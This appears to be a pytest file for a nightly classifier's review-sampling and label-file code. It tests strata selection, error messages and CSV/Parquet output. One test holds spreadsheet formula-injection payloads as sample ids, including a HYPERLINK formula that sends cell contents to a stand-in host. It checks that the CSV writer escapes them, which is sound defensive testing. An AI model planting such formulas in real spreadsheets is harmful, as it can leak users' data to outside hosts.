"""Choose documents of a night to check: strata, populations, and draws that stand for all."""

from __future__ import annotations

import csv
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow.parquet as pq
import pytest

from pipelines.nightly.report.night_report import REPORT
from pipelines.nightly.review.label_file import read_label_file, write_review
from pipelines.nightly.review.review_sample import choose_documents
from pipelines.nightly.tables.night_records import RUNS
from pipelines.storage.object_store import Store
from spin.errors import UserError
from tests.pipelines.nightly.report.test_run_report import make_drift, make_report, make_shift
from tests.support.nights import DATE, MODEL, prediction, run_night

Row = dict[str, Any]


def publish(out: Path, rows: Sequence[Row], disputed: Sequence[str] = (), **options: Any) -> None:
    """Publish a night with some rows; a shadow disagrees on some ids."""
    run_night(Store(str(out)), [], rows=rows, disputed=disputed, **options)


def make_rows(count: int, *, several: bool = False) -> list[Row]:
    """Predictions of which the document n has the nth lowest certainty; every tenth one has no label."""
    rows = []
    for n in range(count):
        score = 0.5 + 0.49 * (n + 1) / count
        row = prediction(f"d{n:05d}", score=score, scores={"good": score, "bad": 1 - score})
        if several:
            row |= {"label": None, "labels": ["good"], "scores": {"good": 0.99, "bad": 1 - score}}
        rows.append(row | ({"label": None, "labels": None} if n % 10 == 0 else {}))
    return rows


@pytest.mark.parametrize("several", [False, True])
def test_the_least_certain_documents_are_all_chosen_and_the_others_drawn(tmp_path: Path, several: bool) -> None:
    publish(tmp_path, make_rows(2000, several=several))
    sample = choose_documents(str(tmp_path), documents=100)
    rows = sample.rows.to_pylist()
    assert (sample.night.date, sample.night.model) == (DATE, MODEL)
    assert len({row["id"] for row in rows}) == len(rows) == 100
    labelled = [f"d{n:05d}" for n in range(2000) if n % 10]
    uncertain = [row["id"] for row in rows if row["reason"] == "uncertain"]
    assert sorted(uncertain) == labelled[:30]
    drawn = [row for row in rows if row["reason"] == "random"]
    assert len(drawn) == 70
    assert {row["population"] for row in drawn} == {1800 - 30}
    assert {row["population"] for row in rows if row["reason"] == "uncertain"} == {30}
    assert {row["id"] for row in drawn} < set(labelled[30:])
    assert 700 < np.mean([int(row["id"][1:]) for row in drawn]) < 1300  # from everywhere
    assert choose_documents(str(tmp_path), documents=100).rows == sample.rows
    assert choose_documents(str(tmp_path), documents=100, seed=1).rows != sample.rows


def test_documents_on_which_the_shadow_disagrees_are_a_stratum(tmp_path: Path) -> None:
    """Without those that are among the least certain, which are in no other stratum."""
    disputed = [f"d{n:05d}" for n in range(1, 800, 2)]
    publish(tmp_path, make_rows(2000), disputed)
    rows = choose_documents(str(tmp_path), documents=100).rows.to_pylist()
    reasons = [row["reason"] for row in rows]
    assert [reasons.count(name) for name in ("uncertain", "disputed", "random")] == [30, 20, 50]
    uncertain = {row["id"] for row in rows if row["reason"] == "uncertain"}
    of_shadow = set(disputed) - uncertain
    for row in rows:
        if row["reason"] == "disputed":
            assert row["id"] in of_shadow
            assert row["population"] == len(of_shadow)
        if row["reason"] == "random":
            assert row["id"] not in set(disputed) | uncertain
    populations = {row["reason"]: row["population"] for row in rows}
    assert sum(populations.values()) == 1800


def test_documents_that_drive_drift_are_chosen_whole(tmp_path: Path) -> None:
    """At most a tenth; one that is among the least certain counts there."""
    night = run_night(Store(str(tmp_path)), [], rows=make_rows(2000))
    drift = make_drift(
        "neurons", 0.8, [3, 97], [], moved=[make_shift(1, ["d00001", "d00501", "d00502"]), make_shift(2)]
    )
    Store(str(tmp_path)).write_json(f"{RUNS}/{night.name}/{REPORT}", make_report(drift=[drift]))
    rows = choose_documents(str(tmp_path), documents=100).rows.to_pylist()
    reasons = [row["reason"] for row in rows]
    assert {row["id"]: row["population"] for row in rows if row["reason"] == "drifted"} == {"d00501": 2, "d00502": 2}
    assert [reasons.count(name) for name in ("uncertain", "disputed", "random")] == [30, 0, 67]
    assert {row["population"] for row in rows if row["reason"] == "random"} == {1800 - 32}


def test_a_small_night_is_chosen_whole(tmp_path: Path) -> None:
    publish(tmp_path, make_rows(20))
    rows = choose_documents(str(tmp_path), documents=100).rows.to_pylist()
    assert sorted(row["id"] for row in rows) == [f"d{n:05d}" for n in range(20) if n % 10]


@pytest.mark.slow
def test_the_night_must_be_there_and_be_the_only_one_that_is_meant(tmp_path: Path) -> None:
    with pytest.raises(UserError, match="no published night"):
        choose_documents(str(tmp_path), documents=10)
    for model in ("topics", "tones"):
        run_night(Store(str(tmp_path)), ["a"], model=model)
    with pytest.raises(UserError, match=r"by tones, topics; choose one with --model"):
        choose_documents(str(tmp_path), documents=10)
    with pytest.raises(UserError, match=r"no published night of 2020-01-01; `spin classify`"):
        choose_documents(str(tmp_path), documents=10, date="2020-01-01")
    assert choose_documents(str(tmp_path), documents=10, model="tones").night.model == "tones"
    run_night(Store(str(tmp_path)), ["b"], date="2026-03-05")
    assert choose_documents(str(tmp_path), documents=10).night.date == "2026-03-05"
    publish(tmp_path, [prediction("c", label=None)], date="2026-03-06")
    with pytest.raises(UserError, match="no document with a label"):
        choose_documents(str(tmp_path), documents=10)


@pytest.mark.parametrize("several", [False, True])
def test_the_file_has_room_for_labels(tmp_path: Path, several: bool) -> None:
    publish(tmp_path / "out", make_rows(40, several=several))
    sample = choose_documents(str(tmp_path / "out"), documents=20)
    ids = sample.rows["id"].to_pylist()
    texts = {id: f'text of "{id}",\nin two lines' for id in ids[1:]}
    write_review(sample, tmp_path / "review.csv", texts)
    with (tmp_path / "review.csv").open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert [row["id"] for row in rows] == ids
    assert [row["text"] for row in rows] == ["", *texts.values()]
    assert {row["label"] for row in rows} == {'["good"]' if several else "good"}
    assert {row["true_label"] for row in rows} == {""}
    assert {(row["date"], row["model"]) for row in rows} == {(DATE, MODEL)}
    write_review(sample, tmp_path / "review.parquet")
    table = pq.read_table(tmp_path / "review.parquet")
    assert "text" not in table.column_names
    assert table["label"].to_pylist()[0] == (["good"] if several else "good")
    with pytest.raises(UserError, match=r"review.txt: expected a name that ends with .csv or .parquet"):
        write_review(sample, tmp_path / "review.txt")


def test_a_spreadsheet_takes_no_cell_of_a_review_for_a_formula(tmp_path: Path) -> None:
    """Ids, texts and classes are read back unchanged, also those that look as if they were written safely."""
    formulas = ('=HYPERLINK("http://h/?"&A1)', "+1+1", "-2", "@SUM(1)", "\t=1", "\r=1", "\uff1d1", "'=1", "''-1")
    ids = [*formulas, "'plain'", "a=b", "12", "x\n=1", "-", "'"]
    publish(tmp_path / "out", [prediction(id, label="-1") for id in ids])
    sample = choose_documents(str(tmp_path / "out"), documents=len(ids))
    write_review(sample, tmp_path / "review.csv", {id: id for id in ids})
    with (tmp_path / "review.csv").open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert len(rows) == len(ids)
    assert not [
        cell for row in rows for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d"))
    ]
    assert {row["id"] for row in rows} >= {'\'=HYPERLINK("http://h/?"&A1)', "'-2", "'plain'", "12"}
    for row in rows:
        row["true_label"] = row["label"]  # as one copies it
    with (tmp_path / "review.csv").open("w", newline="") as file:
        writer = csv.DictWriter(file, list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    read = read_label_file(tmp_path / "review.csv")
    assert [row.id for row in read] == sample.rows["id"].to_pylist()
    assert {row.true_labels for row in read} == {("-1",)}
